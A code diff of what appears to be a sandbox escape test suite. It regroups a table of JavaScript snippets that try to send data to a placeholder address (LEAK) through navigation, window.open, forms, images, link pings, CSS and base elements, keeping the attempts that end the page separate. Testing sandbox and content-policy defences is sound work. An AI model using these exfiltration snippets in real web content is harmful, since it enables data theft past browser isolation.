@@ -39,21 +39,10 @@ const IN_DOCUMENT: Escapes = {
   'the page': 'parent.parent.document.title; console.log("reached the page")',
   'the document around': 'parent.document.title; console.log("reached the document around")',
   'storage of the page': 'top.localStorage.length; console.log("reached storage of the page")',
-  'top.location': 'top.location = LEAK',
-  'top.location.replace': 'top.location.replace(LEAK)',
-  'parent.location': 'parent.location = LEAK',
-  'window.open': 'open(LEAK)',
-  'window.open into the top': 'open(LEAK, "_top")',
-  'window.open into the parent': 'open(LEAK, "_parent")',
-  'a link to the top': 'Object.assign(document.createElement("a"), { href: LEAK, target: "_top" }).click()',
   'a link to a new window': 'Object.assign(document.createElement("a"), { href: LEAK, target: "_blank" }).click()',
   'a link with ping':
     'Object.assign(document.body.appendChild(document.createElement("a")), { href: "#x", ping: LEAK }).click()',
   'a download': 'Object.assign(document.createElement("a"), { href: LEAK, download: "x" }).click()',
-  'a form':
-    'const f = document.body.appendChild(document.createElement("form")); f.action = LEAK; f.method = "post"; f.submit()',
-  'a form of the top':
-    'const f = document.body.appendChild(document.createElement("form")); f.action = LEAK; f.target = "_top"; f.submit()',
   'an image': 'new Image().src = LEAK',
   'an audio': 'new Audio(LEAK).play().catch(() => 0)',
   'a style of CSS': 'document.body.style.background = `url(${LEAK})`',
@@ -89,6 +78,21 @@ const IN_DOCUMENT: Escapes = {
     ]),
   ),
   'a base': `document.head.append(Object.assign(document.createElement('base'), { href: LEAK })); new Image().src = 'x.png'`,
+};
+
+/** Attempts to show the address in another window, or in place of the page, which would end all other attempts. */
+const LEAVING: Escapes = {
+  'top.location': 'top.location = LEAK',
+  'top.location.replace': 'top.location.replace(LEAK)',
+  'parent.location': 'parent.location = LEAK',
+  'window.open': 'open(LEAK)',
+  'window.open into the top': 'open(LEAK, "_top")',
+  'window.open into the parent': 'open(LEAK, "_parent")',
+  'a link to the top': 'Object.assign(document.createElement("a"), { href: LEAK, target: "_top" }).click()',
+  'a form':
+    'const f = document.body.appendChild(document.createElement("form")); f.action = LEAK; f.method = "post"; f.submit()',
+  'a form of the top':
+    'const f = document.body.appendChild(document.createElement("form")); f.action = LEAK; f.target = "_top"; f.submit()',
 };
 
 /** Peer connections, which no enforced policy directive covers. */
@@ -127,7 +131,9 @@ export const NAVIGATIONS: Escapes = {
 };
 
 export const WORKER_ESCAPES: Escapes = BOTH;
-export const DOCUMENT_ESCAPES: Escapes = { ...BOTH, ...IN_DOCUMENT };
+/** Attempts that keep the document, even if they succeed. */
+export const STAYING_ESCAPES: Escapes = { ...BOTH, ...IN_DOCUMENT };
+export const DOCUMENT_ESCAPES: Escapes = { ...STAYING_ESCAPES, ...LEAVING };
 
 /** Run all attempts one after another; each prints its result. */
 export function toEscapeProgram(escapes: Escapes, address: string): string {
